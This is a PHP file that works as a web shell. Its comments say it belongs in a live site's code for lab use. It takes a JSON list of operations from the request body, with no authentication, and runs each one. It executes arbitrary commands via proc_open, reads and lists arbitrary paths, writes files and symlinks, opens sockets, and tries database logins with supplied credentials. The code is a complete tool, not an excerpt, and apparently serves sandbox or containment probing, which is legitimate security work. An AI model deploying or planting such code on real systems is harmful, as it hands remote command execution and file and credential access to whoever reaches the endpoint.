<?php
// Code of one's choice in the live site's PHP: carries out a list of attempts, says what came of each.
// Only in the lab: the list comes as JSON in the body, each answer is [reached, what was seen].
header('Content-Type: application/json');
error_reporting(0);
set_time_limit(100);

function attempt(array $op): array {
  $path = $op['path'] ?? '';
  switch ($op['do']) {
    case 'unix':
    case 'tcp':
      $where = $op['do'] === 'unix' ? "unix://$path" : "tcp://{$op['host']}:{$op['port']}";
      $socket = stream_socket_client($where, $number, $why, 1.5);
      if (!$socket) return [false, "$why"];
      stream_set_timeout($socket, 1);
      if (isset($op['send'])) fwrite($socket, $op['send']);
      return [true, (string) fread($socket, 120)];
    case 'read':
      $text = file_get_contents($path, false, null, 0, 60);
      return [$text !== false && $text !== '', (string) $text];
    case 'list':
      $names = scandir($path);
      return [$names !== false && count($names) > 2, implode(' ', array_slice($names ?: [], 2, 5))];
    case 'write':
      $was = file_exists($path);
      $file = fopen($path, 'a');
      if (!$file) return [false, ''];
      fclose($file);
      if (!$was) unlink($path);
      return [true, 'opened for writing'];
    case 'kill':
      if (function_exists('posix_kill')) return [posix_kill($op['pid'], 0), ''];
      return [false, 'no posix_kill'];
    case 'run':
      $process = proc_open($op['argv'], [['file', '/dev/null', 'r'], ['pipe', 'w'], ['pipe', 'w']], $pipes);
      if (!$process) return [false, 'no proc_open'];
      $said = stream_get_contents($pipes[1], 200) . stream_get_contents($pipes[2], 200);
      return [proc_close($process) === 0, $said];
    case 'sql':
      mysqli_report(MYSQLI_REPORT_OFF);
      $to = mysqli_init();
      $to->options(MYSQLI_OPT_CONNECT_TIMEOUT, 2);
      $host = $op['host'] ?? 'localhost';
      $done = $to->real_connect($host, $op['user'], $op['password'] ?? '', '', 3306, $op['socket'] ?? null);
      return [$done, $done ? 'logged in' : (string) $to->connect_error];
    case 'put':
      if (isset($op['link'])) { unlink($path); return [symlink($op['link'], $path), '']; }
      if (isset($op['folder'])) return [mkdir($path, 0777, true), ''];
      return [file_put_contents($path, $op['text']) !== false, ''];
    case 'deep':
      $start = getcwd();
      chdir($path);
      for ($n = 0; $n < $op['count']; $n++) { mkdir('d'); if (!chdir('d')) break; }
      file_put_contents('f', 'x');
      chdir($start);
      return [$n > 0, "$n folders"];
    case 'self':
      return [true, json_encode(['uid' => getmyuid(), 'user' => file_get_contents('/proc/self/status', false, null, 0, 800)])];
  }
  return [false, 'unknown'];
}

$answers = [];
foreach (json_decode(file_get_contents('php://input'), true) as $op) {
  try { $answers[] = attempt($op); } catch (Throwable $error) { $answers[] = [false, $error->getMessage()]; }
}
echo json_encode($answers, JSON_INVALID_UTF8_SUBSTITUTE);
